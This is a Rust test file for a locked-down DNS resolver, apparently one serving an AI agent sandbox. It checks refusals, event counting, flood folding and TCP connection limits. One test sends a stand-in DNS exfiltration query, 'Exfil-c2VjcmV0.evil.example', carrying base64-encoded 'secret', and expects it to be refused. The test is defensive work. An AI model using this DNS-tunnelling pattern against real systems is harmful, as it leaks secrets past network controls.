//! The resolver, asked by hand over UDP and TCP.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};

use crate::stage::{AGENT, BROKER, Place, STRANGER, connect, texts, total};

const A: u16 = 1;
const AAAA: u16 = 28;
const TXT: u16 = 16;
const REFUSED: u8 = 5;

fn query(name: &str, kind: u16) -> Vec<u8> {
    let mut out = vec![0xbe, 0xef, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.').filter(|label| !label.is_empty()) {
        out.push(u8::try_from(label.len()).unwrap());
        out.extend_from_slice(label.as_bytes());
    }
    out.push(0);
    out.extend_from_slice(&kind.to_be_bytes());
    out.extend_from_slice(&1_u16.to_be_bytes());
    out
}

struct Client(UdpSocket);

impl Client {
    async fn new(from: Ipv4Addr, to: SocketAddr) -> Self {
        let socket = UdpSocket::bind((from, 0)).await.unwrap();
        socket.connect(to).await.unwrap();
        Self(socket)
    }

    async fn ask(&self, message: &[u8]) -> Vec<u8> {
        self.0.send(message).await.unwrap();
        let mut buffer = [0; 1500];
        let length =
            tokio::time::timeout(Duration::from_secs(5), self.0.recv(&mut buffer)).await.expect("an answer").unwrap();
        assert!(length <= message.len() + 16, "amplified {} to {length}", message.len());
        assert_eq!(buffer[..2], message[..2]);
        buffer[..length].to_vec()
    }

    /// (rcode, answers)
    async fn result(&self, name: &str, kind: u16) -> (u8, u8) {
        let answer = self.ask(&query(name, kind)).await;
        (answer[3] & 15, answer[7])
    }
}

#[tokio::test]
async fn doors_are_answered_and_nothing_else_is_and_all_of_it_is_counted() {
    let place = Place::new();
    let stage = place.start().await;
    let agent = Client::new(AGENT, stage.udp).await;

    // The control: what is served, and that it causes no event.
    let answer = agent.ask(&query("Models", A)).await;
    assert_eq!(answer[answer.len() - 4..], BROKER.octets());
    assert_eq!(agent.result("mcp.", A).await, (0, 1));
    assert_eq!(agent.result("models", AAAA).await, (0, 0));

    for _ in 0..5 {
        assert_eq!(agent.result("Exfil-c2VjcmV0.evil.example", TXT).await, (REFUSED, 0));
    }
    assert_eq!(agent.result("secret-broker", A).await, (REFUSED, 0));
    assert_eq!(agent.ask(&[0xbe, 0xef, 0x28, 0, 0, 0, 0, 0, 0, 0, 0, 0]).await[3] & 15, REFUSED);

    let events = stage.denials("seven refusals are counted", |events| total(events) >= 7).await;
    assert_eq!(total(&events), 7, "each exactly once: {events:#?}");
    assert!(events.len() <= 4, "equal ones are folded: {events:#?}");
    let exfil = events.iter().find(|event| event["host"] == "exfil-c2vjcmv0.evil.example").unwrap();
    assert_eq!((exfil["tier"].as_str(), exfil["principal"].as_str()), (Some("tasks"), Some("zeroclaw-tasks")));
    assert_eq!((exfil["layer"].as_str(), exfil["reason"].as_str()), (Some("dns"), Some("name-not-served")));
    assert!(exfil["fix"].as_str().unwrap().contains("tiers.yaml"));
    assert_eq!(exfil["trace_id"].as_str().unwrap().len(), 32);
    assert!(texts(&events, "reason").contains(&"malformed-query"));
    stage.stop().await;
}

#[tokio::test]
async fn an_address_that_is_nobodys_is_refused_and_counted_without_a_principal() {
    let place = Place::new();
    let stage = place.start().await;
    let stranger = Client::new(STRANGER, stage.udp).await;
    assert_eq!(stranger.result("models", A).await, (REFUSED, 0));
    let events = stage.denials("the stranger is counted", |events| !events.is_empty()).await;
    assert_eq!(events[0]["principal"], serde_json::Value::Null);
    assert_eq!(events[0]["reason"], "unknown-client");
    assert!(events[0]["detail"].as_str().unwrap().contains(&STRANGER.to_string()));
    stage.stop().await;
}

#[tokio::test]
async fn a_flood_is_counted_in_few_events() {
    let place = Place::new();
    let stage = place.start().await;
    let agent = Client::new(AGENT, stage.udp).await;
    for n in 0..2000 {
        assert_eq!(agent.result(&format!("{n}.flood.example"), A).await, (REFUSED, 0));
    }
    // Stopping flushes what is still folded: nothing counted is lost with the process.
    let bus = stage.cx.bus.clone();
    stage.stop().await;
    let events: Vec<_> = bus.emitted().into_iter().map(|(_, body)| body).collect();
    assert_eq!(total(&events), 2000);
    assert!(events.len() < 200, "{} events", events.len());
    assert!(texts(&events, "reason").contains(&"flood"));
}

async fn ask_tcp(stream: &mut TcpStream, message: &[u8]) -> Option<Vec<u8>> {
    let mut framed = u16::try_from(message.len()).unwrap().to_be_bytes().to_vec();
    framed.extend_from_slice(message);
    stream.write_all(&framed).await.ok()?;
    let length = stream.read_u16().await.ok()?;
    let mut answer = vec![0; usize::from(length)];
    stream.read_exact(&mut answer).await.ok()?;
    Some(answer)
}

async fn is_closed(stream: &mut TcpStream) -> bool {
    let read = tokio::time::timeout(Duration::from_secs(10), stream.read(&mut [0; 1])).await;
    matches!(read.expect("the server hangs up"), Ok(0) | Err(_))
}

#[tokio::test]
async fn tcp_is_the_same_with_limits() {
    let place = Place::new();
    let stage = place.start().await;
    let mut stream = connect(AGENT, stage.tcp).await;
    let served = ask_tcp(&mut stream, &query("mcp", A)).await.unwrap();
    assert_eq!(served[served.len() - 4..], BROKER.octets());
    let refused = ask_tcp(&mut stream, &query("tcp.example", A)).await.unwrap();
    assert_eq!((refused[3] & 15, refused[7]), (REFUSED, 0));

    // Longer than any query: hung up on without reading it.
    stream.write_all(&[0xff, 0xff]).await.unwrap();
    assert!(is_closed(&mut stream).await);

    // Says nothing: hung up on.
    let mut silent = connect(AGENT, stage.tcp).await;
    silent.write_all(&[0]).await.unwrap();
    assert!(is_closed(&mut silent).await);

    // One connection too many; those that are open go on.
    let mut held = Vec::new();
    for _ in 0..8 {
        let mut stream = connect(AGENT, stage.tcp).await;
        assert!(ask_tcp(&mut stream, &query("mcp", A)).await.is_some());
        held.push(stream);
    }
    let mut ninth = connect(AGENT, stage.tcp).await;
    assert!(is_closed(&mut ninth).await);
    assert!(ask_tcp(&mut held[0], &query("mcp", A)).await.is_some());

    let events = stage.denials("three kinds", |events| total(events) >= 3).await;
    let mut reasons = texts(&events, "reason");
    reasons.sort_unstable();
    assert_eq!(reasons, ["malformed-query", "name-not-served", "too-many-connections"]);
    drop(held);
    stage.stop().await;
}
